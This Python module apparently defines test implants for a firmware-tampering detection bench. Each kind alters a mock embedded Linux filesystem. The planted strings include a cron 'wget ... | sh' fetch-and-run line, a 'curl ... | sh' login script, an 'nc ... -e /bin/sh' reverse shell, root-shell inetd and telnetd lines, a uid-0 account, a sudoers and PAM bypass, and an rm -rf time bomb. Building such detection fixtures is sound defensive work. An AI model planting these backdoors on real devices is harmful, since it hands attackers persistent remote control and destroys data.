"""The implants of the bench: what is put where, one kind after the other.

Each is inert: nothing is ever run, addresses are those of RFC 5737, keys are made for the
run. A kind is a function from a tree to the changed tree and the path that must be seen.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from dataclasses import replace
from typing import Final

from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.x509.oid import NameOID

from bench.trees import DEVICE, LINK, Item, Tree

Planted = tuple[Tree, str]
PROGRAM: Final = 0o755
_HOST: Final = "203.0.113.9"

SKELETON: Final[Tree] = {
    "etc/passwd": Item(
        data=b"root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1:d:/usr/sbin:/usr/sbin/nologin\n"
        b"app:x:1000:1000:a:/srv:/usr/sbin/nologin\n"
    ),
    "etc/shadow": Item(mode=0o640, data=b"root:*:19000:0:99999:7:::\napp:!:19000:0:99999:7:::\n"),
    "etc/hosts": Item(data=b"127.0.0.1 localhost\n"),
    "etc/resolv.conf": Item(data=b"nameserver 127.0.0.1\n"),
    "etc/ntp.conf": Item(data=b"server ntp.vendor.example iburst\n"),
    "etc/nsswitch.conf": Item(data=b"passwd: files\nhosts: files dns\n"),
    "etc/sysctl.conf": Item(data=b"net.ipv4.ip_forward = 0\n"),
    "etc/inittab": Item(data=b"::sysinit:/etc/init.d/rcS\n"),
    "etc/init.d/rcS": Item(mode=PROGRAM, data=b"#!/bin/sh\nmount -a\n/usr/sbin/appd &\n"),
    "etc/iptables/rules.v4": Item(
        data=b"*filter\n:INPUT DROP [0:0]\n-A INPUT -i lo -j ACCEPT\nCOMMIT\n"
    ),
    "etc/config/firewall": Item(data=b"config zone 'wan'\n\toption input 'REJECT'\n"),
    "etc/pam.d/login": Item(data=b"auth required pam_unix.so\n"),
    "etc/inetd.conf": Item(data=b"# none\n"),
    "etc/opkg.conf": Item(data=b"src/gz main https://feeds.vendor.example/main\n"),
    "etc/app/config.json": Item(data=b'{"limits": {"current": 32, "push": 1}, "debug": false}\n'),
    "etc/app/meter.xml": Item(data=b'<m><r obis="1-0:1.8.0" period="900"/></m>\n'),
    "etc/app/tune.ini": Item(data=b"[rate]\ncapture=900\n"),
    "usr/lib/app/canwatch.sh": Item(
        mode=PROGRAM, data=b"#!/bin/sh\ncandump can0 >> /var/log/can\n"
    ),
    "usr/lib/app/daily.sh": Item(mode=PROGRAM, data=b"#!/bin/sh\nlogrotate /etc/logrotate.conf\n"),
    "usr/lib/app/libhelp.so": Item(kind=LINK, mode=0o777, link="libhelp.so.1"),
    "boot/uEnv.txt": Item(data=b"bootdelay=0\nbootargs=console=ttyS0 ro\n"),
}


def _programs(tree: Tree) -> list[str]:
    return sorted(
        (name for name, item in tree.items() if item.data.startswith(b"\x7fELF")),
        key=lambda name: (-len(tree[name].data), name),
    )


def _elf(tree: Tree) -> str:
    return _programs(tree)[len(_programs(tree)) // 2]


def _with(tree: Tree, path: str, item: Item) -> Planted:
    return tree | {path: item}, path


def _added(path: str, text: str, mode: int = 0o644) -> Callable[[Tree], Planted]:
    return lambda tree: _with(tree, path, Item(mode=mode, data=text.encode()))


def _appended(path: str, text: str) -> Callable[[Tree], Planted]:
    return lambda tree: _with(tree, path, replace(tree[path], data=tree[path].data + text.encode()))


def _swapped(path: str, old: str, new: str) -> Callable[[Tree], Planted]:
    def plant(tree: Tree) -> Planted:
        data = tree[path].data.replace(old.encode(), new.encode())
        if data == tree[path].data:
            raise ValueError(f"{path} has no {old}")
        return _with(tree, path, replace(tree[path], data=data))

    return plant


def _patched(tree: Tree) -> Planted:
    path = _elf(tree)
    data = bytearray(tree[path].data)
    at = len(data) // 2
    data[at : at + 4] = bytes(byte ^ 0x5A for byte in data[at : at + 4])
    return _with(tree, path, replace(tree[path], data=bytes(data)))


def _overlay(size: int) -> Callable[[Tree], Planted]:
    def plant(tree: Tree) -> Planted:
        path = _elf(tree)
        extra = bytes(number * 7 % 251 for number in range(size))
        return _with(tree, path, replace(tree[path], data=tree[path].data + extra))

    return plant


def _copied(path: str, mode: int = PROGRAM) -> Callable[[Tree], Planted]:
    """Add a program that resembles one that is there."""

    def plant(tree: Tree) -> Planted:
        data = tree[_elf(tree)].data + b"\0" * 16
        return _with(tree, path, Item(mode=mode, data=data))

    return plant


def _mode(mode: int) -> Callable[[Tree], Planted]:
    return lambda tree: _with(tree, _elf(tree), replace(tree[_elf(tree)], mode=mode))


def _owner(tree: Tree) -> Planted:
    return _with(tree, _elf(tree), replace(tree[_elf(tree)], uid=1000))


def _ssh_key(tree: Tree) -> Planted:
    public = ed25519.Ed25519PrivateKey.generate().public_key()
    form = (serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    text = public.public_bytes(*form) + b" service\n"
    return _with(tree, "root/.ssh/authorized_keys", Item(mode=0o600, data=text))


def _authority(tree: Tree) -> Planted:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Bench Root")])
    start = dt.datetime(2025, 1, 1, tzinfo=dt.UTC)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(7)
        .not_valid_before(start)
        .not_valid_after(start + dt.timedelta(days=3650))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, SHA256())
    )
    data = made.public_bytes(serialization.Encoding.PEM)
    return _with(tree, "etc/ssl/certs/bench-root.pem", Item(data=data))


def _renamed(tree: Tree) -> Planted:
    """Move a program and change it: likeness must not make the new one an old one."""
    path = _elf(tree)
    data = bytearray(tree[path].data)
    data[len(data) // 2] ^= 0xFF
    left = {name: item for name, item in tree.items() if name != path}
    target = f"{path.rpartition('/')[0]}/.{path.rpartition('/')[2]}-helper"
    return _with(left, target, replace(tree[path], data=bytes(data)))


_UNIT: Final = "[Service]\nExecStart=/usr/sbin/updated\n[Install]\nWantedBy=multi-user.target\n"
_BOMB: Final = '[ "$(date +%Y%m%d)" -gt 20270101 ] && rm -rf /srv/app\n'
_UDEV: Final = 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/usr/sbin/updated"\n'
_DBUS: Final = "[D-BUS Service]\nName=x.y\nExec=/usr/sbin/updated\nUser=root\n"

KINDS: Final[tuple[tuple[str, Callable[[Tree], Planted]], ...]] = (
    ("4-byte patch of a program", _patched),
    ("64-byte overlay", _overlay(64)),
    ("8 KiB overlay", _overlay(8192)),
    ("new daemon", _copied("usr/sbin/updated")),
    ("new library in a search path", _copied("usr/lib/libupd.so", 0o644)),
    ("kernel module", _copied("lib/modules/6.1/extra/upd.ko", 0o644)),
    ("program moved, changed, hidden", _renamed),
    ("hidden file with dots and blanks", _copied("usr/lib/... ", 0o644)),
    ("init line", _appended("etc/init.d/rcS", "telnetd -l /bin/sh -p 2323 &\n")),
    ("init script", _added("etc/init.d/S99upd", "#!/bin/sh\n/usr/sbin/updated &\n", PROGRAM)),
    ("inittab line", _appended("etc/inittab", "::respawn:/usr/sbin/updated\n")),
    ("rc.local", _added("etc/rc.local", "#!/bin/sh\n/usr/sbin/updated &\n", PROGRAM)),
    ("ssh key", _ssh_key),
    ("account with uid 0", _appended("etc/passwd", "support:x:0:0::/:/bin/sh\n")),
    ("password hash", _swapped("etc/shadow", "app:!:", "app:$6$a$bcdefghijklmnopqrstuvwx:")),
    (
        "shell for a locked account",
        _swapped("etc/passwd", "/srv:/usr/sbin/nologin", "/srv:/bin/sh"),
    ),
    ("cron job", _added("etc/cron.d/upd", f"* * * * * root wget -qO- {_HOST}/x | sh\n")),
    ("systemd unit", _added("etc/systemd/system/upd.service", _UNIT)),
    ("D-Bus service", _added("usr/share/dbus-1/system-services/x.y.service", _DBUS)),
    ("ld.so.preload", _added("etc/ld.so.preload", "/usr/lib/libupd.so\n")),
    ("certification authority", _authority),
    (
        "firewall rule (iptables)",
        _swapped("etc/iptables/rules.v4", "COMMIT", "-A INPUT -p tcp --dport 23 -j ACCEPT\nCOMMIT"),
    ),
    ("firewall rule (UCI)", _swapped("etc/config/firewall", "REJECT", "ACCEPT")),
    ("changed limit in JSON", _swapped("etc/app/config.json", "32", "63")),
    ("debug flag", _swapped("etc/app/config.json", "false", "true")),
    ("capture period in INI", _swapped("etc/app/tune.ini", "900", "60")),
    (
        "meter: disconnect object",
        _swapped("etc/app/meter.xml", "</m>", '<d obis="0-0:96.3.10" m="remote"/></m>'),
    ),
    (
        "CAN send in a telematics script",
        _appended("usr/lib/app/canwatch.sh", "cansend can0 123#DEADBEEF\n"),
    ),
    ("time bomb", _appended("usr/lib/app/daily.sh", _BOMB)),
    ("reverse shell", _appended("usr/lib/app/daily.sh", f"nc {_HOST} 4444 -e /bin/sh &\n")),
    ("U-Boot environment", _swapped("boot/uEnv.txt", " ro", " rw init=/bin/sh")),
    ("udev rule", _added("etc/udev/rules.d/99-upd.rules", _UDEV)),
    ("setuid bit", _mode(0o4755)),
    ("world-writable program", _mode(0o777)),
    ("owner changed", _owner),
    ("hosts file", _appended("etc/hosts", f"{_HOST} update.vendor.example\n")),
    ("resolver", _swapped("etc/resolv.conf", "127.0.0.1", _HOST)),
    ("time server", _swapped("etc/ntp.conf", "ntp.vendor.example", _HOST)),
    ("sudoers", _added("etc/sudoers.d/upd", "app ALL=(ALL) NOPASSWD: ALL\n", 0o440)),
    ("PAM", _swapped("etc/pam.d/login", "required pam_unix.so", "sufficient pam_permit.so")),
    (
        "symlink swapped",
        lambda tree: _with(
            tree, "usr/lib/app/libhelp.so", Item(kind=LINK, mode=0o777, link="/tmp/h.so")
        ),
    ),
    ("device node", lambda tree: _with(tree, "usr/lib/app/mem", Item(kind=DEVICE, mode=0o666))),
    ("inetd line", _appended("etc/inetd.conf", "2323 stream tcp nowait root /bin/sh sh -i\n")),
    ("IP forwarding", _swapped("etc/sysctl.conf", "= 0", "= 1")),
    ("name service", _swapped("etc/nsswitch.conf", "files dns", "upd files dns")),
    ("package feed", _appended("etc/opkg.conf", f"src/gz upd http://{_HOST}/feed\n")),
    ("module loaded at boot", _added("etc/modules-load.d/upd.conf", "upd\n")),
    ("login script", _added("etc/profile.d/upd.sh", f"curl -s http://{_HOST}/p | sh\n")),
    (
        "Python start hook",
        _added("usr/lib/python3/dist-packages/upd.pth", "import os; os.system('id')\n"),
    ),
)
